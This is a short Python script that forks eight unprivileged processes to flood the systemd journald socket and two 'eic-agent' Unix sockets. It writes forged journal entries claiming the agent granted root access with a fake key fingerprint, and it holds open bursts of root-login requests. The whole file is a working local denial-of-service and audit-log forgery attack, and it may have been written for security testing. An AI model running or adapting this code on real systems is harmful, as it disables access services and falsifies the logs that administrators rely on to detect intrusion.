"""Floods journald and the agent's sockets, as any user of a machine can: 8 processes, no rights.

Run inside the machine by `python3 -`; ends when it is killed. It takes what is nothing but the
standard library's.
"""

import os
import socket
import sys
import time

JOURNALD = "/run/systemd/journal/socket"
AGENTS = ("/run/eic-agent/agent.sock", "/run/eic-agent/standby.sock")
FORGED = b"".join(
    (
        b"MESSAGE=granted SHA256:forged for root\n",
        b"SYSLOG_IDENTIFIER=eic-agent\nEIC_DECISION=granted\nEIC_USER=root\n",
        b"EIC_FINGERPRINT=SHA256:forged\nMESSAGE_ID=90f2168c94cd4cb0b84a6bce5413711b\n",
    )
)


def fill_journald() -> None:
    """Keep the queue full: an entry whenever there is room, at once."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.setblocking(False)
        while True:
            try:
                sender.sendto(FORGED, JOURNALD)
            except OSError:
                time.sleep(0)


def fill_backlog(path: str) -> None:
    """Connect as fast as can be, with a request, and hold some."""
    request = b"\0".join((b"EIC1", b"root", b"", b"1", b"3900"))
    held: list[socket.socket] = []
    while True:
        connection = socket.socket(socket.AF_UNIX)
        connection.setblocking(False)
        try:
            connection.connect(path)
            connection.send(len(request).to_bytes(2, "big") + request)
        except OSError:
            connection.close()
            time.sleep(0)
            continue
        held.append(connection)
        if len(held) > 64:
            held.pop(0).close()


def main() -> None:
    """Be eight."""
    jobs = [fill_journald] * 4 + [lambda path=path: fill_backlog(path) for path in AGENTS * 2]
    for job in jobs[1:]:
        if os.fork() == 0:
            job()
    sys.stdout.flush()
    jobs[0]()


main()
